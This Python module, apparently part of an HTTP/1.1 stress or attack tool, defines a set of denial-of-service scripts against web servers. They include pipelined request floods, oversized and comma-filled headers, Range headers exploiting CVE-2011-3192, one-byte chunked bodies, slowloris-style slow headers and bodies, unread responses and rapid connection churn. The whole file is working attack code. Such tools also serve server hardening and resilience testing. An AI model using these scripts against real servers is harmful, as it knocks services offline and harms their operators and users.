"""Attacks by HTTP/1.1, in clear text."""

from __future__ import annotations

from collections.abc import Iterator

from .drive import Say, Script

AT_ONCE = 50  # requests in one part
HEAD_BYTES = 15 * 1024  # what most servers take


def get(path: bytes, *lines: bytes) -> bytes:
    """A request."""
    return b"\r\n".join((b"GET " + path + b" HTTP/1.1", b"Host: attacked", *lines, b"", b""))


def again(data: bytes, reads: bool = True) -> Iterator[Say]:
    """The same without end. The first part is one request, as with HTTP/2 it is a hello."""
    yield Say(data, reads)
    while True:
        yield Say(data * max(1, min(AT_ONCE, 65536 // len(data))), reads)


def pipelined(path: bytes) -> Iterator[Say]:
    """Requests without a pause, whose answers are read."""
    return again(get(path))


def pipelined_unread(path: bytes) -> Iterator[Say]:
    """Requests without a pause, whose answers are not read."""
    return again(get(path), reads=False)


def pipelined_missing(path: bytes) -> Iterator[Say]:
    """Requests for paths of 7,000 bytes that name nothing."""
    return again(get(b"/" + b"%61/" * 1750))


def huge_heads_of_commas(path: bytes) -> Iterator[Say]:
    """Heads as large as they may be, of a list of nothing."""
    return again(get(path, b"If-None-Match: " + b"," * HEAD_BYTES))


def huge_heads_of_connection_options(path: bytes) -> Iterator[Say]:
    """The same in the field that decides about the connection."""
    return again(get(path, b"Connection: " + b"a,," * 20 + b"a" * HEAD_BYTES))


def huge_heads_of_fields(path: bytes) -> Iterator[Say]:
    """95 fields of 150 bytes."""
    return again(get(path, *[b"X-%d: " % number + b"a" * 145 for number in range(95)]))


def too_huge_heads(path: bytes) -> Iterator[Say]:
    """Heads that are refused when they are nearly whole, on connection after connection."""
    yield Say(get(path))
    yield Say(get(path, b"X: " + b"a" * 40_000))


def many_ranges(path: bytes) -> Iterator[Say]:
    """As many ranges as there may be, of a byte each."""
    ranges = b",".join(b"%d-%d" % (start, start) for start in range(0, 62, 2))
    return again(get(path, b"Range: bytes=" + ranges))


def too_many_ranges(path: bytes) -> Iterator[Say]:
    """Thousands of ranges (CVE-2011-3192)."""
    return again(get(path, b"Range: bytes=" + b",".join(b"0-%d" % number for number in range(2500))))


def chunks_of_a_byte(path: bytes) -> Iterator[Say]:
    """Content in chunks of one byte."""
    head = b"POST " + path + b" HTTP/1.1\r\nHost: attacked\r\nTransfer-Encoding: chunked\r\n\r\n"
    return again(head + b"1\r\na\r\n" * 500 + b"0\r\n\r\n")


def slow_heads(path: bytes) -> Iterator[Say]:
    """Heads of a byte a second."""
    for byte in get(path, b"X: " + b"a" * 1000):
        yield Say(bytes((byte,)), pause_seconds=1.0)


def heads_in_crumbs(path: bytes) -> Iterator[Say]:
    """Heads of a byte a packet, as fast as they go."""
    head = get(path, b"X: " + b"a" * 1000)
    while True:
        for byte in head:
            yield Say(bytes((byte,)), pause_seconds=0.001)


def connections(path: bytes) -> Iterator[Say]:
    """One request a connection, on connection after connection."""
    yield Say(get(path, b"Connection: close"))
    yield Say(get(path, b"Connection: close"))


def slow_bodies(path: bytes) -> Iterator[Say]:
    """Request content of a byte a second."""
    yield Say(b"POST " + path + b" HTTP/1.1\r\nHost: attacked\r\nContent-Length: 60000\r\n\r\n")
    while True:
        yield Say(b"a", pause_seconds=1.0)


def slow_readers(path: bytes) -> Iterator[Say]:
    """A request whose answer is never read."""
    yield Say(get(path), reads=False)


def connect_and_close(path: bytes) -> Iterator[Say]:
    """Connections that are closed as soon as they are there."""
    yield Say(b"", leaves=True)


SCRIPTS: tuple[Script, ...] = (
    *(pipelined, pipelined_unread, pipelined_missing, huge_heads_of_commas, huge_heads_of_connection_options),
    *(huge_heads_of_fields, too_huge_heads, many_ranges, too_many_ranges, chunks_of_a_byte, slow_heads),
    *(slow_bodies, slow_readers, heads_in_crumbs, connections, connect_and_close),
)
"""Every one of them."""
